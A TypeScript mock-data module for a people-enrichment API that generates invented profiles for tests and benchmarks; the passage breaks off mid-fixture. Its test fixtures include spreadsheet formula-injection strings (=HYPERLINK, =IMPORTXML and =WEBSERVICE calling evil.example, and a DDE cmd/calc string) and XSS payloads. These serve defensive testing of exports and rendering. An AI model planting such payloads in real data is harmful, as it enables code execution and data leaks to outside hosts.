// The mock API's people: ~300 invented, deterministic profiles covering every field group of
// person_data (nulls, long arrays, unicode, hostile text included), plus an unbounded family of
// generated people (`synthetic-<n>`) for benchmarks, and a mutable store for refresh tests.
//
// Identifiers (all lookups are case-insensitive):
// - profile URL  https://www.linkedin.com/in/<slug>
// - business email: sample people have their own; generated person n is
//   `synthetic-<n>@<domain of COMPANIES[n % COMPANIES.length]>` (its current employer), n a
//   decimal integer without leading zeros. Slugs starting `missing-` and unknown emails never match.
import { hashString, Prng, unitFrom } from './prng';
import type {
  CertificationData, DevPlatformProfileData, EducationData, EmailRecord, EmploymentDetailsData, HonorData, PersonData,
} from './personTypes';
import {
  CERTIFICATIONS, COMPANIES, DEGREES, EMPLOYMENT_TYPES, FIELDS_OF_STUDY, FIRST_NAMES, HONORS, LANGUAGES, LAST_NAMES,
  OPEN_TO_CARDS, PLACES, PRONOUNS, SCHOOLS, SKILLS, TITLES, VERIFICATIONS, headcountRange, rawPlace,
  type CompanyFixture, type PlaceFixture, type TitleFixture,
} from './pools';

export type { PersonData } from './personTypes';

export interface MockPerson {
  /** Lower-case; the part after /in/. */
  readonly slug: string;
  /** https://www.linkedin.com/in/<slug> */
  readonly profileUrl: string;
  /** Lower-case; the email this person is found by. */
  readonly businessEmail: string;
  /** The full person_data the API would hold. Frozen for pristine people. */
  readonly data: PersonData;
}

export const PROFILE_URL_PREFIX = 'https://www.linkedin.com/in/';
export const SAMPLE_SIZE = 300;
/** The data's "today": dates and durations in the dataset are computed against it. */
export const DATASET_AS_OF = '2025-11-01';
const AS_OF_YEAR = 2025;
const AS_OF_MONTH = 11;

export function profileUrlOf(person: MockPerson): string {
  return person.profileUrl;
}

export function businessEmailOf(person: MockPerson): string {
  return person.businessEmail;
}

export function profileUrlForSlug(slug: string): string {
  return PROFILE_URL_PREFIX + slug;
}

// ---------------------------------------------------------------------------------------------
// Generated people (benchmarks): synthetic-<n>

const SYNTHETIC_SLUG = /^synthetic-(0|[1-9][0-9]{0,8})$/;
const SYNTHETIC_PERSON_ID_BASE = 10_000_000;

export function syntheticSlug(n: number): string {
  return `synthetic-${n}`;
}

export function syntheticProfileUrl(n: number): string {
  return profileUrlForSlug(syntheticSlug(n));
}

/** The employer of generated person n, whose domain is in its business email. */
export function syntheticCompany(n: number): CompanyFixture {
  return COMPANIES[n % COMPANIES.length];
}

export function syntheticBusinessEmail(n: number): string {
  return `synthetic-${n}@${syntheticCompany(n).domain}`;
}

/** `count` distinct identifiers of generated people, n = start .. start+count-1. */
export function syntheticIdentifiers(count: number, kind: 'profile_url' | 'business_email', start = 0): string[] {
  const out: string[] = [];
  for (let n = start; n < start + count; n++) {
    out.push(kind === 'profile_url' ? syntheticProfileUrl(n) : syntheticBusinessEmail(n));
  }
  return out;
}

function syntheticIndexOfSlug(slug: string): number | null {
  const match = SYNTHETIC_SLUG.exec(slug);
  return match ? Number(match[1]) : null;
}

function syntheticIndexOfEmail(email: string): number | null {
  const at = email.indexOf('@');
  if (at < 0) return null;
  const n = syntheticIndexOfSlug(email.slice(0, at));
  return n !== null && email.slice(at + 1) === syntheticCompany(n).domain ? n : null;
}

const syntheticMemo = new Map<number, MockPerson>();

/** Generated person n; equal every time. Treat it as read-only. */
export function syntheticPerson(n: number): MockPerson {
  let person = syntheticMemo.get(n);
  if (!person) {
    const slug = syntheticSlug(n);
    const data = generatePersonData(`synthetic:${n}`, SYNTHETIC_PERSON_ID_BASE + n, slug, syntheticBusinessEmail(n), syntheticCompany(n));
    // Not frozen (freezing cost more than generating); the mock never mutates a person in place.
    person = { slug, profileUrl: profileUrlForSlug(slug), businessEmail: syntheticBusinessEmail(n), data };
    // Benchmarks ask for 10,000+ people; keep memory bounded without losing determinism.
    if (syntheticMemo.size >= 50_000) syntheticMemo.clear();
    syntheticMemo.set(n, person);
  }
  return person;
}

// ---------------------------------------------------------------------------------------------
// People only the live endpoint finds (POST /person/professional_network/enrich/live): the
// cached dataset has no profile for them, the web has. live-only-<n> mirrors synthetic-<n>:
// profile URL https://www.linkedin.com/in/live-only-<n>, business email
// live-only-<n>@<domain of COMPANIES[n % 40]>.

const LIVE_ONLY_SLUG = /^live-only-(0|[1-9][0-9]{0,8})$/;
const LIVE_ONLY_PERSON_ID_BASE = 20_000_000;

export function liveOnlySlug(n: number): string {
  return `live-only-${n}`;
}

export function liveOnlyProfileUrl(n: number): string {
  return profileUrlForSlug(liveOnlySlug(n));
}

export function liveOnlyBusinessEmail(n: number): string {
  return `live-only-${n}@${syntheticCompany(n).domain}`;
}

/** `count` identifiers of people only the live endpoint finds, n = start .. start+count-1. */
export function liveOnlyIdentifiers(count: number, kind: 'profile_url' | 'business_email', start = 0): string[] {
  const out: string[] = [];
  for (let n = start; n < start + count; n++) out.push(kind === 'profile_url' ? liveOnlyProfileUrl(n) : liveOnlyBusinessEmail(n));
  return out;
}

const liveOnlyMemo = new Map<number, MockPerson>();

/** Web-only person n; equal every time. Treat it as read-only. */
export function liveOnlyPerson(n: number): MockPerson {
  let person = liveOnlyMemo.get(n);
  if (!person) {
    const slug = liveOnlySlug(n);
    const data = generatePersonData(`live-only:${n}`, LIVE_ONLY_PERSON_ID_BASE + n, slug, liveOnlyBusinessEmail(n), syntheticCompany(n));
    person = { slug, profileUrl: profileUrlForSlug(slug), businessEmail: liveOnlyBusinessEmail(n), data };
    if (liveOnlyMemo.size >= 50_000) liveOnlyMemo.clear();
    liveOnlyMemo.set(n, person);
  }
  return person;
}

function liveOnlyIndexOfSlug(slug: string): number | null {
  const match = LIVE_ONLY_SLUG.exec(slug);
  return match ? Number(match[1]) : null;
}

function liveOnlyIndexOfEmail(email: string): number | null {
  const at = email.indexOf('@');
  if (at < 0) return null;
  const n = liveOnlyIndexOfSlug(email.slice(0, at));
  return n !== null && email.slice(at + 1) === syntheticCompany(n).domain ? n : null;
}

/** The web-only person behind a slug or business email (any case), or undefined. */
export function liveOnlyPersonBySlug(slug: string): MockPerson | undefined {
  const n = liveOnlyIndexOfSlug(slug.toLowerCase());
  return n === null ? undefined : liveOnlyPerson(n);
}

export function liveOnlyPersonByBusinessEmail(email: string): MockPerson | undefined {
  const n = liveOnlyIndexOfEmail(email.toLowerCase());
  return n === null ? undefined : liveOnlyPerson(n);
}

// ---------------------------------------------------------------------------------------------
// Generation

function asciiSlugPart(text: string): string {
  const folded = text
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .replace(/[łŁ]/g, 'l')
    .replace(/ı/g, 'i')
    .replace(/[øØ]/g, 'o')
    .replace(/[đĐ]/g, 'd')
    .replace(/ß/g, 'ss')
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-+|-+$/g, '');
  return folded;
}

const hexMemo = new Map<string, string>();

/** Stable pseudo-hash text for ids and file names (memoized: company and school logos repeat a lot). */
function hex(text: string, length = 32): string {
  const memoKey = `${length}:${text}`;
  const known = hexMemo.get(memoKey);
  if (known !== undefined) return known;
  let out = '';
  let i = 0;
  while (out.length < length) out += hashString(`${text}#${i++}`).toString(16).padStart(8, '0');
  out = out.slice(0, length);
  if (hexMemo.size < 1_000) hexMemo.set(memoKey, out);
  return out;
}

function isoDate(year: number, month: number, day = 1): string {
  return `${year}-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}`;
}

function isoDateTime(rng: Prng, fromYear = 2023): string {
  const year = rng.int(fromYear, AS_OF_YEAR);
  const month = year === AS_OF_YEAR ? rng.int(1, AS_OF_MONTH - 1) : rng.int(1, 12);
  return `${isoDate(year, month, rng.int(1, 28))}T${String(rng.int(0, 23)).padStart(2, '0')}:${String(rng.int(0, 59)).padStart(2, '0')}:00Z`;
}

function monthsBetween(fromYear: number, fromMonth: number, toYear: number, toMonth: number): number {
  return Math.max(0, (toYear - fromYear) * 12 + (toMonth - fromMonth));
}

function placeData(place: PlaceFixture) {
  return { city: place.city, state: place.state, country: place.country, continent: place.continent, raw: rawPlace(place) };
}

function companyLinkedInUrl(company: CompanyFixture): string {
  return `https://www.linkedin.com/company/${company.domain.replace(/\.example$/, '')}`;
}

interface Stint {
  company: CompanyFixture;
  title: TitleFixture;
  startYear: number;
  startMonth: number;
  /** null while current */
  endYear: number | null;
  endMonth: number | null;
}

function employmentEntry(rng: Prng, stint: Stint, isDefault: boolean): EmploymentDetailsData {
  const { company, title } = stint;
  const months = monthsBetween(stint.startYear, stint.startMonth, stint.endYear ?? AS_OF_YEAR, stint.endMonth ?? AS_OF_MONTH);
  const years = Math.floor(months / 12);
  return {
    name: company.name,
    professional_network_id: String(100000 + company.id * 3),
    title: title.title,
    description: rng.chance(0.5) ? `${title.title} in the ${title.department.toLowerCase()} team at ${company.name}.` : null,
    location: rng.chance(0.9) ? { raw: `${company.hqLocation}, ${company.hqCountry}` } : null,
    employment_type: rng.chance(0.8) ? 'Full-time' : rng.pick(EMPLOYMENT_TYPES),
    start_date: isoDate(stint.startYear, stint.startMonth),
    end_date: stint.endYear === null ? null : isoDate(stint.endYear, stint.endMonth ?? 1),
    is_default: isDefault,
    crustdata_company_id: company.id,
    company_website_domain: company.domain,
    company_profile_picture_permalink: `https://media.crustdata.example/company/${hex(company.name, 64)}.jpg`,
    company_professional_network_profile_url: companyLinkedInUrl(company),
    seniority_level: title.seniority,
    function_category: title.functionCategory,
    years_at_company: years < 1 ? 'Less than 1 year' : years === 1 ? '1 year' : `${years} years`,
    years_at_company_raw: Math.round((months / 12) * 100) / 100,
    company_headcount_latest: company.headcount,
    company_headcount_range: headcountRange(company.headcount),
    company_industries: company.industries.slice(),
    company_professional_network_industry: company.industries[0],
    company_type: company.type,
    company_website: `https://www.${company.domain}`,
    company_headquarters_country: company.hqCountry,
    company_hq_location: company.hqLocation,
    company_hq_location_address_components: company.hqComponents.slice(),
    position_id: rng.int(1_000_000, 9_999_999),
    business_email_verified: rng.chance(0.1) ? null : rng.chance(0.7),
  };
}

function educationEntry(rng: Prng, endBefore: number): EducationData {
  const school = rng.pick(SCHOOLS);
  const endYear = endBefore - rng.int(0, 2);
  const startYear = endYear - rng.int(2, 5);
  return {
    school: school.name,
    degree: rng.chance(0.85) ? rng.pick(DEGREES) : null,
    field_of_study: rng.chance(0.85) ? rng.pick(FIELDS_OF_STUDY) : null,
    description: rng.chance(0.6) ? '' : 'Thesis on distributed systems; teaching assistant for two semesters.',
    location: rng.chance(0.85) ? placeData(school.place) : null,
    start_year: rng.chance(0.9) ? startYear : null,
    end_year: rng.chance(0.9) ? endYear : null,
    activities_and_societies: rng.chance(0.4) ? rng.pick(['Debating Society', 'Rowing Club', 'Student Council', 'Robotics Club, Chess Club']) : null,
    institute_logo_permalink: `https://media.crustdata.example/company/${hex(school.name, 64)}.jpg`,
    institute_logo_url: rng.chance(0.5) ? `https://media.example/logos/${asciiSlugPart(school.name)}.png` : null,
    professional_network_id: school.id,
  };
}

function certificationEntry(rng: Prng): CertificationData {
  const [name, issuer] = rng.pick(CERTIFICATIONS);
  const year = rng.int(2012, 2025);
  return {
    name,
    issuing_organization: issuer,
    issue_date: isoDate(year, rng.int(1, 12)),
    expiration_date: rng.chance(0.5) ? isoDate(year + 3, rng.int(1, 12)) : null,
    credential_id: rng.chance(0.6) ? `${rng.int(0, 9)}${rng.int(0, 9)}${rng.int(10000, 99999)}` : null,
    credential_url: rng.chance(0.4) ? `https://credentials.example/verify/${hex(name + rng.next(), 12)}` : null,
    source: 'professional_network',
  };
}

function honorEntry(rng: Prng): HonorData {
  const [title, issuer] = rng.pick(HONORS);
  return {
    title,
    issued_date: rng.chance(0.8) ? isoDate(rng.int(2008, 2025), rng.int(1, 12)) : null,
    description: rng.chance(0.5) ? `Awarded ${title.toLowerCase()} for outstanding work.` : null,
    issuer,
    media_urls: rng.chance(0.3) ? [`https://media.example/honors/${hex(title + rng.next(), 10)}.png`] : rng.chance(0.5) ? null : [],
    associated_organization: rng.chance(0.5) ? issuer : null,
    associated_organization_professional_network_id: rng.chance(0.5) ? String(rng.int(1000, 99999)) : null,
  };
}

function devPlatformProfile(rng: Prng, login: string, name: string, company: string | null, place: PlaceFixture | null): DevPlatformProfileData {
  const created = isoDateTime(rng, 2012);
  return {
    account_type: 'github',
    profile_url: `https://github.com/${login}`,
    name: rng.chance(0.9) ? name : null,
    email: rng.chance(0.4) ? `${login}@users.noreply.example` : null,
    location: place ? { raw: rawPlace(place) } : null,
    company_text: company ? `@${asciiSlugPart(company)}` : null,
    bio: rng.chance(0.6) ? rng.pick(['Building things.', 'Open source maintainer.', 'I write compilers for fun.', 'Coffee → code']) : null,
    website_url: rng.chance(0.4) ? `https://${login}.dev.example` : null,
    profile_picture_url: `https://avatars.example/u/${rng.int(1000, 9_999_999)}?v=4`,
    is_hireable: rng.chance(0.2) ? null : rng.chance(0.3),
    is_site_admin: false,
    confidence_score: Math.round(rng.next() * 1000) / 1000,
    public_repo_count: rng.int(0, 400),
    followers: rng.int(0, 12000),
    following: rng.int(0, 300),
    declared_handles: rng.chance(0.5)
      ? [{ provider: 'twitter', url: `https://twitter.com/${login}`, created_at: created, last_updated: isoDateTime(rng) }]
      : rng.chance(0.5) ? [] : null,
    org_memberships: rng.chance(0.4)
      ? [{
          organization_id: rng.int(1, 999_999),
          organization_github_id: rng.int(1_000_000, 99_999_999),
          organization_login: company ? asciiSlugPart(company) : 'open-source-collective',
          created_at: created,
          last_updated: isoDateTime(rng),
        }]
      : null,
    metadata: { created_at: created, last_scraped_source: isoDateTime(rng), last_updated: isoDateTime(rng) },
  };
}

function phoneNumber(rng: Prng): string {
  // E.164, the format the API uses; it looks like a number to Sheets.
  return rng.pick(['+1415555', '+1212555', '+4420794', '+4930901', '+8190123', '+6129876']) + String(rng.int(0, 9999)).padStart(4, '0');
}

/**
 * One person, fixed by `seedKey`. `employer`, when given, is the current employer (generated
 * people need it to match their email's domain).
 */
function generatePersonData(seedKey: string, personId: number, slug: string, businessEmail: string, employer?: CompanyFixture, names?: { first: string; last: string }): PersonData {
  const rng = new Prng(`person:${seedKey}`);
  const first = names?.first ?? rng.pick(FIRST_NAMES);
  const last = names?.last ?? rng.pick(LAST_NAMES);
  const name = `${first} ${last}`;
  const home = rng.chance(0.08) ? null : rng.pick(PLACES);

  // Career: past stints back to back, then zero, one or two current ones.
  const currentCount = employer ? (rng.chance(0.08) ? 2 : 1) : rng.chance(0.08) ? 0 : rng.chance(0.08) ? 2 : 1;
  const pastCount = rng.int(0, 5);
  let year = AS_OF_YEAR - rng.int(1, 3) - pastCount * 2;
  let month = rng.int(1, 12);
  const careerStart = year;
  const past: Stint[] = [];
  for (let i = 0; i < pastCount; i++) {
    const length = rng.int(6, 40);
    const endYear = year + Math.floor((month - 1 + length) / 12);
    const endMonth = ((month - 1 + length) % 12) + 1;
    past.push({ company: rng.pick(COMPANIES), title: rng.pick(TITLES), startYear: year, startMonth: month, endYear, endMonth });
    year = endYear;
    month = endMonth;
  }
  if (year > AS_OF_YEAR || (year === AS_OF_YEAR && month > AS_OF_MONTH)) {
    year = AS_OF_YEAR;
    month = AS_OF_MONTH - 1;
  }
  const current: Stint[] = [];
  for (let i = 0; i < currentCount; i++) {
    const company = i === 0 && employer ? employer : rng.pick(COMPANIES);
    current.push({ company, title: rng.pick(TITLES), startYear: year, startMonth: month, endYear: null, endMonth: null });
  }
  // The API lists past roles newest first.
  past.reverse();
  const main = current[0] ?? null;
  const currentTitle = main ? main.title.title : '';

  const login = `${asciiSlugPart(first) || 'dev'}${asciiSlugPart(last).replace(/-/g, '') || 'coder'}${rng.int(1, 999)}`;
  const hasDevProfile = rng.chance(0.3);
  const emailLocal = businessEmail.slice(0, businessEmail.indexOf('@'));

  const businessEmails: EmailRecord[] = [
    { email: businessEmail, status: rng.chance(0.75) ? 'verified' : 'unverified', last_updated: rng.chance(0.9) ? isoDateTime(rng) : null, crustdata_company_id: main ? main.company.id : null },
  ];
  if (rng.chance(0.1) && past.length > 0) {
    businessEmails.push({ email: `${emailLocal}@${past[0].company.domain}`, status: 'unverified', last_updated: null, crustdata_company_id: past[0].company.id });
  }
  const personalEmails: EmailRecord[] = rng.chance(0.4)
    ? [{ email: `${login}@mail.example`, status: rng.chance(0.6) ? 'verified' : 'unverified', last_updated: rng.chance(0.8) ? isoDateTime(rng) : null }]
    : [];
  const phones = rng.chance(0.35) ? Array.from({ length: rng.int(1, 2) }, () => phoneNumber(rng)) : [];
  const websites = rng.chance(0.3) ? [`https://${login}.example`] : [];

  const summaryTemplates = [
    `${currentTitle || 'Professional'} with ${AS_OF_YEAR - careerStart} years of experience.`,
    `I help teams ship. Previously at ${past[0]?.company.name ?? 'a startup'}.`,
    'Curious about people, data and good coffee.',
    '',
  ];
  const summary = rng.pick(summaryTemplates);
  const headline = main ? `${main.title.title} at ${main.company.name}` : rng.pick(['Open to work', 'Between roles', 'Independent consultant']);
  const similarity = Math.round((0.5 + rng.next() * 0.5) * 10000) / 10000;
  const pictureHash = `${personId.toString(16).padStart(8, '0')}${hashString(`picture:${seedKey}`).toString(16).padStart(8, '0')}`.repeat(4);

  const data: PersonData = {
    crustdata_person_id: personId,
    basic_profile: {
      name,
      headline,
      first_name: first,
      last_name: last,
      current_title: currentTitle,
      professional_network_name: rng.chance(0.9) ? name : null,
      normalized_title: main
        ? {
            matched_title: main.title.matchedTitle,
            department: main.title.department,
            sub_department: main.title.subDepartment,
            similarity,
            confident: similarity > 0.6,
          }
        : null,
      summary,
      languages: rng.sample(LANGUAGES, rng.int(0, 3)),
      last_updated: rng.chance(0.9) ? isoDateTime(rng) : null,
      profile_picture_permalink: rng.chance(0.8) ? `https://media.crustdata.example/person/${pictureHash}.jpg` : null,
      location: home ? placeData(home) : null,
    },
    professional_network: {
      profile_picture_url: `https://media.example/profile-displayphoto/${pictureHash.slice(0, 16)}`,
      profile_picture_permalink: `https://media.crustdata.example/person/${pictureHash}.jpg`,
      name,
      pronoun: rng.chance(0.3) ? rng.pick(PRONOUNS) : '',
      headline,
      current_title: currentTitle,
      summary,
      location: home ? placeData(home) : { city: null, state: null, country: null, continent: null, raw: null },
      connections: rng.chance(0.1) ? null : rng.int(0, 500) + (rng.chance(0.3) ? 500 : 0),
      followers: rng.chance(0.1) ? null : rng.int(0, 20000),
      joined_date: rng.chance(0.8) ? isoDate(careerStart - rng.int(0, 3), rng.int(1, 12)) : null,
      verifications: rng.sample(VERIFICATIONS, rng.int(0, 2)),
      open_to_cards: rng.chance(0.25) ? rng.sample(OPEN_TO_CARDS, rng.int(1, 2)) : [],
      metadata: { last_scraped_source: rng.chance(0.9) ? isoDateTime(rng) : null },
    },
    skills: { professional_network_skills: rng.sample(SKILLS, rng.int(0, 25)) },
    contact: { business_emails: businessEmails, personal_emails: personalEmails, phone_numbers: phones, websites },
    social_handles: {
      professional_network_identifier: { profile_url: profileUrlForSlug(slug) },
      dev_platform_identifier: { profile_url: hasDevProfile ? `https://github.com/${login}` : null },
      ...(rng.chance(0.5) ? { twitter_identifier: { slug: login } } : {}),
    },
    dev_platform_profiles: hasDevProfile
      ? [devPlatformProfile(rng, login, name, main?.company.name ?? null, home)]
      : rng.chance(0.5) ? null : [],
    experience: {
      employment_details: {
        current: current.map((stint, i) => employmentEntry(rng, stint, i === 0)),
        past: past.map((stint) => employmentEntry(rng, stint, false)),
      },
    },
    certifications: rng.chance(0.3) ? Array.from({ length: rng.int(1, 4) }, () => certificationEntry(rng)) : [],
    honors: rng.chance(0.2) ? Array.from({ length: rng.int(1, 3) }, () => honorEntry(rng)) : [],
    education: { schools: Array.from({ length: rng.int(0, 3) }, (_, i) => educationEntry(rng, careerStart - i * 3)) },
    updated_at: isoDateTime(rng, 2025),
  };
  return data;
}

function deepFreeze<T>(value: T): T {
  if (value && typeof value === 'object' && !Object.isFrozen(value)) {
    Object.freeze(value);
    for (const child of Object.values(value as Record<string, unknown>)) deepFreeze(child);
  }
  return value;
}

function freezePerson(person: MockPerson): MockPerson {
  return deepFreeze(person);
}

// ---------------------------------------------------------------------------------------------
// Sample people and special cases

/** Names of the hand-made people every test can reach by name (SPECIAL.x). */
export type SpecialName =
  | 'hostileHeadline'
  | 'htmlHeadline'
  | 'longSummary'
  | 'leadingZeros'
  | 'plusPhone'
  | 'numberLike'
  | 'newlines'
  | 'unicode'
  | 'nulls'
  | 'sparse'
  | 'longArrays'
  | 'maxCredits'
  | 'businessEmailOnly'
  | 'emptyStrings'
  | 'hostileEverywhere'
  | 'noCurrentJob';

/** Over 60,000 characters: more than a Sheets cell holds (50,000). */
export const LONG_SUMMARY_LENGTH = 61_234;

function longSummaryText(): string {
  const sentence = 'I have spent my career building reliable data pipelines, mentoring engineers and writing far too much about it. ';
  let text = '';
  let paragraph = 1;
  while (text.length < LONG_SUMMARY_LENGTH - 40) text += `[${paragraph++}] ${sentence}`;
  text = text.slice(0, LONG_SUMMARY_LENGTH - 15);
  return `${text} END-OF-SUMMARY`;
}

const HOSTILE_PREFIXES = ['=', '+', '-', '@'];

/** Prefixes every string in a value with = + - @ in turn, except the listed exact strings. */
function hostilize(value: unknown, keep: ReadonlySet<string>, counter: { i: number }): unknown {
  if (typeof value === 'string') {
    if (keep.has(value)) return value;
    return HOSTILE_PREFIXES[counter.i++ % HOSTILE_PREFIXES.length] + value;
  }
  if (Array.isArray(value)) return value.map((item) => hostilize(item, keep, counter));
  if (value && typeof value === 'object') {
    const out: Record<string, unknown> = {};
    for (const [key, child] of Object.entries(value)) out[key] = hostilize(child, keep, counter);
    return out;
  }
  return value;
}

interface SpecialSpec {
  name: SpecialName;
  slug: string;
  email: string;
  edit: (data: PersonData, rng: Prng) => PersonData;
}

function currentJob(data: PersonData): EmploymentDetailsData | undefined {
  return data.experience?.employment_details?.current?.[0];
}

const SPECIAL_SPECS: SpecialSpec[] = [
  {
    name: 'hostileHeadline',
    slug: 'hostile-headline',
    email: 'hostile.headline@ironbark-security.example',
    edit: (d) => {
      d.basic_profile!.headline = '=HYPERLINK("http://evil.example","x")';
      d.basic_profile!.name = '@admin =cmd|\' /C calc\'!A0';
      d.basic_profile!.first_name = '@admin';
      d.basic_profile!.current_title = '+SUM(A1:A9)';
      d.basic_profile!.summary = '-5';
      d.professional_network!.headline = '=HYPERLINK("http://evil.example","x")';
      const job = currentJob(d)!;
      job.name = '=IMPORTXML("http://evil.example","//a")';
      job.title = '+SUM(A1:A9)';
      d.contact!.phone_numbers = ['+1 555 0100'];
      d.contact!.websites = ['=WEBSERVICE("http://evil.example")'];
      d.skills = { professional_network_skills: ['=1+1', '+1', '-1', '@SUM(1)', 'Normal skill'] };
      return d;
    },
  },
  {
    name: 'htmlHeadline',
    slug: 'html-headline',
    email: 'html.headline@umbra-design.example',
    edit: (d) => {
      d.basic_profile!.headline = '<img src=x onerror=alert(1)>';
      d.basic_profile!.name = '<script>alert("name")</script>';
      d.basic_profile!.summary = '<b>bold</b> & "double" \'single\' </textarea><iframe src="javascript:alert(2)">';
      d.professional_network!.headline = '<img src=x onerror=alert(1)>';
      currentJob(d)!.title = '<svg onload=alert(3)>';
      d.basic_profile!.current_title = '<svg onload=alert(3)>';
      return d;
    },
  },
  {
    name: 'longSummary',
    slug: 'long-summary',
    email: 'long.summary@lumen-labs.example',
    edit: (d) => {
      const text = longSummaryText();
      d.basic_profile!.summary = text;
      d.professional_network!.summary = text;
      return d;
    },
  },
  {
    name: 'leadingZeros',
    slug: '00123',
    email: '00123@kestrel-ai.example',
    edit: (d) => {
      d.basic_profile!.name = '00123';
      d.basic_profile!.first_name = '007';
      const job = currentJob(d)!;
      job.professional_network_id = '00123';
      job.years_at_company = '01';
      d.contact!.phone_numbers = ['00123', '0044 20 7946 0000'];
      d.social_handles!.twitter_identifier = { slug: '007' };
      d.certifications = [{
        name: 'Certified Kubernetes Administrator', issuing_organization: 'Cloud Native Computing Foundation',
        issue_date: '2021-03-01', expiration_date: '2024-03-01', credential_id: '00123', credential_url: null, source: 'professional_network',
      }];
      const schools = d.education!.schools!;
      if (schools.length === 0) schools.push(educationEntry(new Prng('00123'), 2010));
      schools[0].professional_network_id = '000456';
      return d;
    },
  },
  {
    name: 'plusPhone',
    slug: 'plus-phone',
    email: 'plus.phone@copperline.example',
    edit: (d) => {
      d.contact!.phone_numbers = ['+14155550100', '+1 555 0100', '-5', '(415) 555-0100', '+44 20 7946 0958'];
      return d;
    },
  },
  {
    name: 'numberLike',
    slug: 'number-like',
    email: 'number.like@fjord-fintech.example',
    edit: (d) => {
      d.basic_profile!.name = 'TRUE';
      d.basic_profile!.first_name = '0042';
      d.basic_profile!.last_name = '1/2/2024';
      d.basic_profile!.headline = '1e10';
      d.basic_profile!.current_title = '#N/A';
      d.basic_profile!.summary = '50%';
      d.basic_profile!.languages = ['FALSE', '3.14', "'quoted"];
      const job = currentJob(d)!;
      job.name = '3.14';
      job.title = '#N/A';
      job.start_date = '2019-07-01';
      job.years_at_company = '6';
      return d;
    },
  },
  {
    name: 'newlines',
    slug: 'new-lines',
    email: 'new.lines@pinecone-media.example',
    edit: (d) => {
      d.basic_profile!.headline = 'Line one\nLine two';
      d.basic_profile!.summary = 'Paragraph one.\r\n\r\nParagraph two\twith a tab.\n- bullet\n= not a formula  ';
      currentJob(d)!.title = 'Head of\nEverything';
      d.basic_profile!.current_title = 'Head of\nEverything';
      return d;
    },
  },
  {
    name: 'unicode',
    slug: 'zoe-angstrom',
    email: 'zoe.angstrom@tokyo-data.example',
    edit: (d) => {
      d.basic_profile!.name = 'Zoë Ångström-李 🚀';
      d.basic_profile!.first_name = 'Zoë';
      d.basic_profile!.last_name = 'Ångström-李';
      d.basic_profile!.headline = 'مهندسة برمجيات \u200f| ソフトウェアエンジニア 👩‍💻';
      d.basic_profile!.summary = 'Ünïcödé sümmäry with combining marks: e\u0301 a\u0308, and a zero-width joiner 👨‍👩‍👧.';
      d.basic_profile!.location = { city: 'Kraków', state: 'Małopolskie', country: 'Polska', continent: 'Europe', raw: 'Kraków, Małopolskie, Polska' };
      currentJob(d)!.name = '東京データ株式会社';
      return d;
    },
  },
  {
    name: 'nulls',
    slug: 'all-nulls',
    email: 'all.nulls@harborlight-hospital.example',
    edit: (d) => {
      const bp = d.basic_profile!;
      bp.professional_network_name = null;
      bp.normalized_title = null;
      bp.last_updated = null;
      bp.profile_picture_permalink = null;
      bp.location = null;
      d.professional_network!.connections = null;
      d.professional_network!.followers = null;
      d.professional_network!.joined_date = null;
      d.professional_network!.metadata = { last_scraped_source: null };
      d.social_handles!.dev_platform_identifier = { profile_url: null };
      d.dev_platform_profiles = null;
      for (const job of [...(d.experience!.employment_details!.current ?? []), ...(d.experience!.employment_details!.past ?? [])]) {
        for (const key of Object.keys(job) as Array<keyof EmploymentDetailsData>) {
          if (key !== 'name' && key !== 'title') (job as unknown as Record<string, unknown>)[key] = null;
        }
      }
      d.contact!.business_emails = d.contact!.business_emails!.map((record) => ({ ...record, last_updated: null, crustdata_company_id: null }));
      d.education = { schools: [{
        school: 'Harbourview Community College', degree: null, field_of_study: null, description: null, location: null,
        start_year: null, end_year: null, activities_and_societies: null, institute_logo_permalink: null, institute_logo_url: null,
        professional_network_id: null,
      }] };
      d.honors = [{ title: null, issued_date: null, description: null, issuer: null, media_urls: null, associated_organization: null, associated_organization_professional_network_id: null }];
      d.updated_at = null;
      return d;
    },
  },
  {
    name: 'sparse',
    slug: 'sparse-profile',
    email: 'sparse.profile@kiln-co.example',
    // Whole groups absent, as the API does when it knows little about someone.
    edit: (d) => ({
      crustdata_person_id: d.crustdata_person_id,
      basic_profile: { name: 'Sparse Profile' },
      contact: { business_emails: d.contact!.business_emails },
    }),
  },
  {
    name: 'longArrays',
    slug: 'long-arrays',
    email: 'long.arrays@nimbus-cloudworks.example',
    edit: (d, rng) => {
      d.skills = { professional_network_skills: [...SKILLS, ...SKILLS.map((skill) => `Advanced ${skill}`)].slice(0, 150) };
      d.basic_profile!.languages = LANGUAGES.slice();
      const past: EmploymentDetailsData[] = [];
      for (let i = 0; i < 40; i++) {
        const startYear = 1984 + Math.floor(i / 2);
        past.push(employmentEntry(rng, { company: COMPANIES[i % COMPANIES.length], title: TITLES[i % TITLES.length], startYear, startMonth: (i % 2) * 6 + 1, endYear: startYear + (i % 2), endMonth: i % 2 ? 1 : 7 }, false));
      }
      d.experience!.employment_details!.past = past.reverse();
      // A fixed-term contract: a current role with an end date in the future.
      Object.assign(currentJob(d)!, { employment_type: 'Contract', end_date: '2026-06-30' });
      d.education = { schools: Array.from({ length: 12 }, (_, i) => educationEntry(rng, 2020 - i * 2)) };
      d.certifications = Array.from({ length: 30 }, () => certificationEntry(rng));
      d.honors = Array.from({ length: 25 }, () => honorEntry(rng));
      d.contact!.phone_numbers = Array.from({ length: 20 }, () => phoneNumber(rng));
      d.contact!.websites = Array.from({ length: 10 }, (_, i) => `https://site-${i}.long-arrays.example`);
      d.contact!.personal_emails = Array.from({ length: 6 }, (_, i) => ({ email: `long.arrays.${i}@mail.example`, status: 'verified' as const, last_updated: null }));
      d.dev_platform_profiles = Array.from({ length: 8 }, (_, i) => devPlatformProfile(rng, `longarrays${i}`, 'Long Arrays', 'Nimbus Cloudworks', PLACES[i]));
      return d;
    },
  },
  {
    name: 'maxCredits',
    slug: 'max-credits',
    email: 'max.credits@indigo-payments.example',
    // Business + personal email, phone and developer-platform data: 7 credits with every group.
    edit: (d, rng) => {
      d.contact!.personal_emails = [{ email: 'max.credits@mail.example', status: 'verified', last_updated: '2025-06-01T10:00:00Z' }];
      d.contact!.phone_numbers = ['+14155550199'];
      d.dev_platform_profiles = [devPlatformProfile(rng, 'maxcredits', 'Max Credits', 'Indigo Payments', PLACES[0])];
      d.social_handles!.dev_platform_identifier = { profile_url: 'https://github.com/maxcredits' };
      return d;
    },
  },
  {
    name: 'businessEmailOnly',
    slug: 'business-email-only',
